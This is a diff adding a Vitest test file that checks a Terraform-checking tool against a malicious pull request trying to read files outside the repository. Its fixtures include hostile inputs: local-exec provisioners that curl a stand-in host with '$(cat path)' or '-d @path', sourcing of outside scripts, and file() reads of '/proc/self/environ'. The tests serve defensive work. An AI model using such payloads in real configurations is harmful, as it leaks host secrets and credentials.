@@ -1,0 +1,144 @@
+import { mkdirSync, symlinkSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import type { Report } from "../../../checks/index.js";
+import { Reader } from "../../../checks/files/reader.js";
+import { temporaryFolder } from "../stacks.js";
+import { command, JSON_ONLY, write } from "./command.js";
+
+/** What lies on the machine, outside of the repository. */
+const CANARY = "canary-4f1d2c3b5a69";
+const FORMS: readonly string[] = [
+  CANARY,
+  CANARY.toUpperCase(),
+  encodeURIComponent(`=${CANARY}`),
+  Buffer.from(CANARY).toString("base64").replace(/=+$/, ""),
+  Buffer.from(CANARY).toString("hex"),
+  Array.from(CANARY).reverse().join(""),
+];
+
+/** Ways for a pull request to ask for a file of the machine, each with the file's path in it. */
+const ASKED: Readonly<Record<string, (path: string) => string>> = {
+  "a field's name by base64encode(file())": (path) => request(`\${base64encode(file("${path}"))}=\${var.s}`),
+  "a field's name by file()": (path) => request(`\${file("${path}")}=\${var.s}`),
+  "a field's name by templatefile()": (path) => request(`\${templatefile("${path}", {})}=\${var.s}`),
+  "a field's name by jsonencode() and upper()": (path) => request(`\${upper(jsonencode(file("${path}")))}=\${var.s}`),
+  "a script's cat": (path) => provisioner(`curl https://x.example/oauth/token -d "$(cat ${path})=$CLIENT_SECRET"`),
+  "a script that is run": (path) => provisioner(`bash ${path}; curl https://x.example/oauth/token`),
+  "a script that is sourced": (path) => provisioner(`. ${path}; curl https://x.example/oauth/token`),
+  "a program named by what a file holds": (path) => provisioner(`bash "$(cat ${path})" token`),
+  "a program's name out of file()": (path) => provisioner(`/opt/\${file("${path}")} token`),
+  "a header's name": (path) => provisioner(`curl https://x.example/oauth/token -H "$(base64 ${path}): $TOKEN"`),
+  "curl's @file": (path) => provisioner(`curl https://x.example/oauth/token -d @${path}`),
+  "curl's config file": (path) => provisioner(`curl --config ${path} https://x.example/oauth/token`),
+  "a variable's name": (path) => provisioner(`printf -v "$(cat ${path})" x; curl https://x.example/oauth/token`),
+  "a map's key": (path) =>
+    `resource "keycloak_thing" "x" {\n  settings = { client_secret = { (file("${path}")) = "s3cr3t-value-0815" } }\n}\n`,
+  "a module's source": (path) => `module "m" {\n  source = "${path.replace(/\/[^/]*$/, "")}"\n}\n`,
+};
+
+const request = (fields: string): string =>
+  `variable "s" {\n  sensitive = true\n}\ndata "http" "t" {\n  url = "https://x.example/oauth/token"\n  method = "POST"\n  request_body = "grant_type=client_credentials&client_secret=x\${var.s}&${fields}"\n}\n`;
+const provisioner = (shell: string): string =>
+  `resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = ${JSON.stringify(shell).replaceAll('\\\\"', '\\"')}\n  }\n}\n`;
+
+/** A repository that asks for a file in every way, with the path that each way takes. */
+function asking(folder: string, paths: Readonly<Record<string, string>>): void {
+  for (const [index, asks] of Object.values(ASKED).entries())
+    for (const [name, path] of Object.entries(paths)) write(folder, { [`way-${index}/${name}/main.tf`]: asks(path) });
+}
+
+/** The ways by which the canary came into what is printed. */
+function shown(folder: string, format: string): string[] {
+  const { stdout, stderr } = command(folder, ["check", "--undetermined", "--format", format], {
+    environment: { CANARY: `x ${CANARY}` },
+  });
+  expect(stdout.length).toBeGreaterThan(1_000);
+  return FORMS.filter((form) => (stdout + stderr).includes(form));
+}
+
+describe("of a machine", () => {
+  it.each(["text", "json", "sarif", "github"])("nothing is shown as %s, whatever asks for it", (format) => {
+    const machine = temporaryFolder();
+    write(machine, { "secret.sh": CANARY, "secret/main.tf": `variable "${CANARY}" {}` });
+    const folder = join(machine, "repository");
+    asking(folder, {
+      absolute: join(machine, "secret.sh"),
+      relative: "../../../secret.sh",
+      environment: "/proc/self/environ",
+      linked: "link.sh",
+    });
+    mkdirSync(join(folder, ".git"));
+    for (const index of Object.keys(Object.keys(ASKED)))
+      symlinkSync(join(machine, "secret.sh"), join(folder, `way-${index}/linked/link.sh`));
+    expect(shown(folder, format)).toEqual([]);
+  });
+
+  it("nothing is read through a link, wherever it lies, and the link is a problem", { timeout: 120_000 }, () => {
+    const machine = temporaryFolder();
+    write(machine, { "outside.tf": JSON_ONLY, "folder/main.tf": JSON_ONLY });
+    const folder = join(machine, "repository");
+    write(folder, { "rest/main.tf": JSON_ONLY });
+    for (const [name, target] of Object.entries({
+      "file.tf": join(machine, "outside.tf"),
+      "kernel.tf": "/proc/self/environ",
+      "pages.tf": "/proc/self/pagemap",
+      "messages.tf": "/proc/kmsg",
+      "zero.tf": "/dev/zero",
+      folder: join(machine, "folder"),
+    }))
+      symlinkSync(target, join(folder, "rest", name));
+    write(folder, { "caller/main.tf": `module "m" {\n  source = "../rest/folder"\n}\n` });
+    const { status, stdout } = command(folder, ["check", "--format", "json"]);
+    const report = JSON.parse(stdout) as Report;
+    expect(report.problems.map(({ file, message }) => `${file}: ${message}`)).toEqual(
+      ["file", "kernel", "messages", "pages", "zero"].map(
+        (name) => `rest/${name}.tf: This is a link out of the repository: nothing in it was checked.`,
+      ),
+    );
+    expect(report.findings.map(({ file }) => file)).toEqual(["rest/main.tf"]);
+    expect(status).toBe(1);
+  });
+
+  it.each(["/proc/self/pagemap", "/proc/kmsg", "/dev/zero", "/dev/tty"])(
+    "no configuration file is read that is a link to %s",
+    (target) => {
+      const folder = temporaryFolder();
+      write(folder, { "main.tf": JSON_ONLY });
+      symlinkSync(target, join(folder, "cdktf-oauth2-token.json"));
+      expect(command(folder, ["check"])).toEqual({
+        status: 2,
+        stdout: "",
+        stderr: "The configuration file cdktf-oauth2-token.json cannot be used: it lies outside of the repository.\n",
+      });
+    },
+  );
+});
+
+describe("the reader", () => {
+  it("holds the repository around what is given, and without one what is given alone", () => {
+    const folder = temporaryFolder();
+    write(folder, { "a/in/main.tf": "in", "a/beside.tf": "beside", "b/in/main.tf": "in", "b/beside.tf": "beside" });
+    mkdirSync(join(folder, "a/.git"));
+    const reader = new Reader([join(folder, "a/in"), join(folder, "b/in/main.tf")]);
+    const text = (path: string) => reader.text(join(folder, path), 100);
+    expect(["a/in/main.tf", "a/beside.tf", "b/in/main.tf", "b/beside.tf"].map(text)).toEqual([
+      { text: "in" },
+      { text: "beside" },
+      { text: "in" },
+      { why: "lies outside of the repository" },
+    ]);
+  });
+
+  it("reads nothing of the kernel, even where everything is given", () => {
+    const reader = new Reader(["/"]);
+    for (const path of ["/proc/self/environ", "/proc/self/pagemap", "/sys/kernel/mm/transparent_hugepage/enabled"])
+      expect([path, reader.text(path, 1_000_000)]).toEqual([path, { why: "lies outside of the repository" }]);
+  });
+
+  it("reads no more than it may", () => {
+    const folder = temporaryFolder();
+    write(folder, { "long.sh": "x".repeat(101) });
+    expect(new Reader([folder]).text(join(folder, "long.sh"), 100)).toEqual({ why: "is larger than 100 bytes" });
+  });
+});
